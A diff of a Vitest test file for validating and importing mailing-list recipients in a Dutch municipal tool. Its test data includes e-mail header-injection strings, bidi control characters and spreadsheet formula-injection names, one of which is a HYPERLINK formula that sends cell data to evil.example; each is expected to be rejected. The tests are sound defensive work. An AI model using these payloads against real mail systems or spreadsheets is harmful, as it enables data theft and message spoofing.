@@ -1,46 +1,90 @@
 import { describe, expect, it } from 'vitest';
-import type { Municipality } from '../../functions/core/organisation';
-import { checkRecipient, formatMailbox, parseRecipientCsv, recipientsToCsv } from '../../functions/core/recipient-validation';
+import { ImportRejectedError } from '../../functions/core/csv-reader';
+import type { Municipality, Recipient } from '../../functions/core/organisation';
+import {
+  type RecipientInput,
+  checkRecipient,
+  formatMailbox,
+  planRecipientList,
+  readRecipientCsv,
+  recipientsToCsv,
+} from '../../functions/core/recipient-validation';
 
 const municipalities: Municipality[] = [
   { name: 'Tiel', optedOut: false },
   { name: 'West Betuwe', optedOut: false },
 ];
 
+const bytes = (text: string) => Buffer.from(text, 'utf8');
+/** The bytes Excel writes for "CSV (gescheiden door lijstscheidingsteken)" on a Dutch Windows. */
+const windows1252 = (text: string) => Buffer.from(text.replace(/’/g, '\x92'), 'latin1');
+
+async function rejection(file: Uint8Array): Promise<ImportRejectedError> {
+  const error = await readRecipientCsv(file, 'ontvangers.csv', municipalities).then(
+    () => undefined,
+    (e: unknown) => e,
+  );
+  expect(error).toBeInstanceOf(ImportRejectedError);
+  return error as ImportRejectedError;
+}
+
 describe('a recipient is checked before it is stored', () => {
+  const jan = (overrides: Partial<RecipientInput>): RecipientInput => ({ municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example', ...overrides });
+
   it.each([
     ['CR LF', 'Jan Jansen\r\nBcc: iedereen@example.org'],
     ['a bare LF', 'Jan\nJansen'],
     ['a NUL', 'Jan\u0000Jansen'],
     ['a Unicode line separator', 'Jan\u2028Jansen'],
   ])('rejects a name with %s (header injection)', (_, name) => {
-    const result = checkRecipient({ municipality: 'Tiel', role: 'ab-lid', name, email: 'jan@tiel.example' }, municipalities);
-    expect(result).toEqual({ problems: ['naam: the name contains a line break or another control character'] });
+    expect(checkRecipient(jan({ name }), municipalities)).toEqual({ problems: [{ field: 'naam', message: expect.stringContaining('de naam bevat een regeleinde of een ander stuurteken') }] });
   });
 
-  it('rejects an address with a line break or that is no address', () => {
-    expect(checkRecipient({ municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example\r\nBcc: x@y.nl' }, municipalities)).toHaveProperty('problems');
-    expect(checkRecipient({ municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan at tiel' }, municipalities)).toEqual({ problems: ['email: not a valid e-mail address'] });
+  it.each(['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'])('rejects a name with the bidi control U+%s', (char) => {
+    expect(checkRecipient(jan({ name: `Jan${char}nesnaJ` }), municipalities)).toEqual({ problems: [{ field: 'naam', message: expect.stringContaining('leesrichting') }] });
   });
 
-  it('accepts a known municipality in any case and normalises name and address', () => {
-    const result = checkRecipient({ municipality: 'west betuwe', role: 'beleidsmedewerker', name: '  Piet  ', email: ' Piet@WestBetuwe.Example ' }, municipalities);
+  it.each(['=HYPERLINK("http://evil.example/?x="&A1;"klik")', '@SUM(1+1)', '+31 6 1234', ' =1+1'])('rejects a name a spreadsheet would evaluate: %s', (name) => {
+    expect(checkRecipient(jan({ name }), municipalities)).toEqual({ problems: [{ field: 'naam', message: expect.stringContaining('begint met =, + of @') }] });
+  });
+
+  it('accepts a name that only starts with a dash, or has = further on', () => {
+    expect(checkRecipient(jan({ name: '-Jan' }), municipalities)).toHaveProperty('recipient');
+    expect(checkRecipient(jan({ name: 'Jan = Piet' }), municipalities)).toHaveProperty('recipient');
+  });
+
+  it('rejects an address with a line break, showing it on one line, or that is no address', () => {
+    expect(checkRecipient(jan({ email: 'jan@tiel.example\r\nBcc: x@y.nl' }), municipalities)).toEqual({
+      problems: [{ field: 'email', message: 'het adres "jan@tiel.example\\r\\nBcc: x@y.nl" bevat een regeleinde of een ander stuurteken; geef één kaal adres, zoals naam@gemeente.nl' }],
+    });
+    expect(checkRecipient(jan({ email: 'jan at tiel' }), municipalities)).toEqual({
+      problems: [{ field: 'email', message: '"jan at tiel" is geen geldig e-mailadres; schrijf het als naam@gemeente.nl' }],
+    });
+  });
+
+  it('accepts a known municipality and a role in any case and normalises name and address', () => {
+    const result = checkRecipient({ municipality: 'west betuwe', role: 'Beleidsmedewerker', name: '  Piet  ', email: ' Piet@WestBetuwe.Example ' }, municipalities);
     expect(result).toEqual({ recipient: { municipality: 'West Betuwe', role: 'beleidsmedewerker', name: 'Piet', email: 'piet@westbetuwe.example' } });
+    expect(checkRecipient(jan({ role: 'AB-lid' }), municipalities)).toEqual({ recipient: expect.objectContaining({ role: 'ab-lid' }) });
+    expect(checkRecipient(jan({ role: 'AB lid' }), municipalities)).toEqual({ recipient: expect.objectContaining({ role: 'ab-lid' }) });
   });
 
-  it('names every problem: unknown municipality, unknown role, empty name', () => {
-    const result = checkRecipient({ municipality: 'Utrecht', role: 'wethouder' as never, name: ' ', email: 'a@b.nl' }, municipalities);
+  it('names every problem: unknown municipality, unknown role, empty name — with every valid value', () => {
+    const result = checkRecipient({ municipality: 'Utrecht', role: 'wethouder', name: ' ', email: 'a@b.nl' }, municipalities);
     expect('problems' in result && result.problems).toEqual([
-      'rol: the role must be one of ab-lid, beleidsmedewerker, reviewer',
-      'naam: the name is empty',
-      'gemeente: "Utrecht" is not a known municipality (known: Tiel, West Betuwe)',
+      { field: 'rol', message: '"wethouder" is geen rol', validValues: ['ab-lid', 'beleidsmedewerker', 'reviewer'] },
+      { field: 'naam', message: 'de naam is leeg' },
+      { field: 'gemeente', message: '"Utrecht" is geen gemeente van de organisatie', validValues: ['Tiel', 'West Betuwe'] },
     ]);
+    expect(checkRecipient(jan({ municipality: 'Utrecht' }), municipalities)).toEqual({
+      problems: [{ field: 'gemeente', message: '"Utrecht" is geen gemeente van de organisatie', validValues: ['Tiel', 'West Betuwe'] }],
+    });
   });
 
   it('wants a municipality for an AB-lid and none for a reviewer', () => {
-    expect(checkRecipient({ municipality: null, role: 'ab-lid', name: 'Jan', email: 'a@b.nl' }, municipalities)).toEqual({ problems: ['gemeente: an ab-lid needs a municipality'] });
-    expect(checkRecipient({ municipality: 'Tiel', role: 'reviewer', name: 'GBO', email: 'a@b.nl' }, municipalities)).toEqual({
-      problems: ['gemeente: a reviewer belongs to no municipality; leave it empty'],
+    expect(checkRecipient(jan({ municipality: null }), municipalities)).toEqual({ problems: [{ field: 'gemeente', message: 'de gemeente is leeg; een ab-lid hoort bij een gemeente' }] });
+    expect(checkRecipient(jan({ role: 'reviewer' }), municipalities)).toEqual({
+      problems: [{ field: 'gemeente', message: 'een reviewer hoort bij geen gemeente; laat de gemeente leeg' }],
     });
   });
 });
@@ -48,33 +92,81 @@ describe('a recipient is checked before it is stored', () => {
 describe('the recipient CSV file is read as a whole', () => {
   const header = '\uFEFFgemeente;rol;naam;email\r\n';
 
-  it('reads a file with a BOM, ";" and a quoted name', () => {
-    const list = parseRecipientCsv(`${header}Tiel;ab-lid;"Jansen; J.";jan@tiel.example\r\n;reviewer;Secretariaat GBO;gbo@werkzaak.example\r\n`, municipalities);
-    expect(list).toEqual([
-      { municipality: 'Tiel', role: 'ab-lid', name: 'Jansen; J.', email: 'jan@tiel.example' },
-      { municipality: null, role: 'reviewer', name: 'Secretariaat GBO', email: 'gbo@werkzaak.example' },
-    ]);
+  it('reads a file with a BOM, ";" and a quoted name', async () => {
+    const file = await readRecipientCsv(bytes(`${header}Tiel;ab-lid;"Jansen; J.";jan@tiel.example\r\n;reviewer;Secretariaat GBO;gbo@werkzaak.example\r\n`), 'x.csv', municipalities);
+    expect(file).toEqual({
+      encoding: 'utf-8-bom',
+      delimiter: ';',
+      recipients: [
+        { municipality: 'Tiel', role: 'ab-lid', name: 'Jansen; J.', email: 'jan@tiel.example' },
+        { municipality: null, role: 'reviewer', name: 'Secretariaat GBO', email: 'gbo@werkzaak.example' },
+      ],
+    });
   });
 
-  it('rejects the whole file, naming each row, for a CRLF in a quoted name and a duplicate address', () => {
+  it('reads what Excel saves as Windows-1252, with the letters right and no U+FFFD', async () => {
+    const file = await readRecipientCsv(windows1252('Gemeente;Rol;Naam;E-mail\r\nTiel;AB-lid;José Müller;jos@tiel.example\r\nTiel;Beleidsmedewerker;Jeroen van ’t Ééntje;jeroen@tiel.example\r\n'), 'x.csv', municipalities);
+    expect(file.encoding).toBe('windows-1252');
+    expect(file.recipients.map((r) => r.name)).toEqual(['José Müller', 'Jeroen van ’t Ééntje']);
+    expect(JSON.stringify(file)).not.toContain('\uFFFD');
+  });
+
+  it('reads the ways Excel and people write it: "," separated, sep= line, trailing ";", header variants, roles in any case', async () => {
+    const comma = await readRecipientCsv(bytes('Gemeente,Rol,Naam,E-mail\nTiel,AB-lid,"Jansen, J.",jan@tiel.example\n'), 'x.csv', municipalities);
+    const excel = await readRecipientCsv(bytes('sep=;\r\nGEMEENTE;ROL;NAAM;e-mailadres;\r\nWest Betuwe;BELEIDSMEDEWERKER;Piet;piet@wb.example;\r\n;;;;\r\n'), 'x.csv', municipalities);
+    const emailadres = await readRecipientCsv(bytes('naam;emailadres;gemeente;rol\nJan;jan@tiel.example;tiel;Ab-Lid\n'), 'x.csv', municipalities);
+    expect(comma.recipients).toEqual([{ municipality: 'Tiel', role: 'ab-lid', name: 'Jansen, J.', email: 'jan@tiel.example' }]);
+    expect(comma.delimiter).toBe(',');
+    expect(excel.recipients).toEqual([{ municipality: 'West Betuwe', role: 'beleidsmedewerker', name: 'Piet', email: 'piet@wb.example' }]);
+    expect(emailadres.recipients).toEqual([{ municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' }]);
+  });
+
+  it('refuses a file with only its header: an import never empties the list', async () => {
+    const error = await rejection(bytes(header));
+    expect(error.message).toContain('het bestand heeft alleen een kopregel en geen rijen');
+  });
+
+  it('rejects the whole file, naming each row, for a CRLF in a quoted name and a duplicate address', async () => {
     const csv = `${header}Tiel;ab-lid;Jan;jan@tiel.example\r\nTiel;ab-lid;"Piet\r\nBcc: x@y.nl";piet@tiel.example\r\nTiel;beleidsmedewerker;Jan J.;JAN@tiel.example\r\nWest Betuwe;ab-lid;Jan;jan@tiel.example\r\n`;
-    expect(() => parseRecipientCsv(csv, municipalities)).toThrow(
-      /rejected; nothing was changed:\n {2}row 3, naam: the name contains a line break or another control character\n {2}row 4, email: jan@tiel.example is already on row 2 for Tiel$/,
-    );
+    const error = await rejection(bytes(csv));
+    expect(error.message).toMatch(/^ontvangers\.csv is geweigerd \(2 fouten\); er is niets gewijzigd/);
+    expect(error.message).toContain('rij 3, kolom naam: de naam bevat een regeleinde');
+    expect(error.message).toContain('rij 4, kolom email: jan@tiel.example staat al op rij 2 voor Tiel');
   });
 
-  it('says which columns the header lacks', () => {
-    expect(() => parseRecipientCsv('gemeente;naam\nTiel;Jan\n', municipalities)).toThrow(/lacks the column\(s\) rol, email/);
+  it('refuses formula names and bidi characters, and lists every valid municipality and role once', async () => {
+    const csv = `${header}Tiel;ab-lid;"=HYPERLINK(""http://evil.example/?x=""&A1;""klik"")";jan@tiel.example\r\nTiel;ab-lid;@SUM(1+1);piet@tiel.example\r\nUtrecht;wethouder;Kees\u202eteeK;kees@tiel.example\r\n`;
+    const error = await rejection(bytes(csv));
+    expect(error.message).toContain('rijen 2 en 3, kolom naam: de naam begint met =, + of @');
+    expect(error.message).toContain('rij 4, kolom rol: "wethouder" is geen rol');
+    expect(error.message).toContain('rij 4, kolom naam: de naam bevat een teken dat de leesrichting omdraait');
+    expect(error.message).toContain('Geldige waarden in kolom rol: ab-lid, beleidsmedewerker, reviewer.');
+    expect(error.message).toContain('Geldige waarden in kolom gemeente: Tiel, West Betuwe.');
   });
 
-  it('exports what it imports', () => {
-    const list = [
-      { municipality: null, role: 'reviewer' as const, name: 'Team "Beleid"', email: 'beleid@werkzaak.example' },
-      { municipality: 'Tiel', role: 'ab-lid' as const, name: 'Jan', email: 'jan@tiel.example' },
+  it('says which columns the header lacks', async () => {
+    const error = await rejection(bytes('gemeente;naam\nTiel;Jan\n'));
+    expect(error.message).toContain('rij 1: de kopregel "gemeente;naam" mist de kolommen rol en email; verwacht gemeente;rol;naam;email');
+  });
+
+  it('exports what it imports, also a name that starts with a dash (neutralised in the file, not in the list)', async () => {
+    const list: Recipient[] = [
+      { municipality: null, role: 'reviewer', name: 'Team "Beleid"', email: 'beleid@werkzaak.example' },
+      { municipality: 'Tiel', role: 'ab-lid', name: '-Jan', email: 'jan@tiel.example' },
     ];
     const csv = recipientsToCsv(list);
-    expect(csv.startsWith('\uFEFFgemeente;rol;naam;email\r\nTiel;')).toBe(true);
-    expect(parseRecipientCsv(csv, municipalities)).toEqual([list[1], list[0]]);
+    expect(csv.startsWith("\uFEFFgemeente;rol;naam;email\r\nTiel;ab-lid;'-Jan;")).toBe(true);
+    expect((await readRecipientCsv(bytes(csv), 'x.csv', municipalities)).recipients).toEqual([list[1], list[0]]);
+  });
+});
+
+describe('an import compared with the list', () => {
+  it('says who is added, changed and removed', () => {
+    const jan: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Jan', email: 'jan@tiel.example' };
+    const piet: Recipient = { municipality: 'Tiel', role: 'ab-lid', name: 'Piet', email: 'piet@tiel.example' };
+    const kees: Recipient = { municipality: null, role: 'reviewer', name: 'Kees', email: 'kees@werkzaak.example' };
+    const plan = planRecipientList([jan, piet], [{ ...jan, name: 'Jan Jansen' }, kees]);
+    expect(plan).toEqual({ added: [kees], changed: [{ before: jan, after: { ...jan, name: 'Jan Jansen' } }], removed: [piet], unchanged: 0 });
   });
 });
 
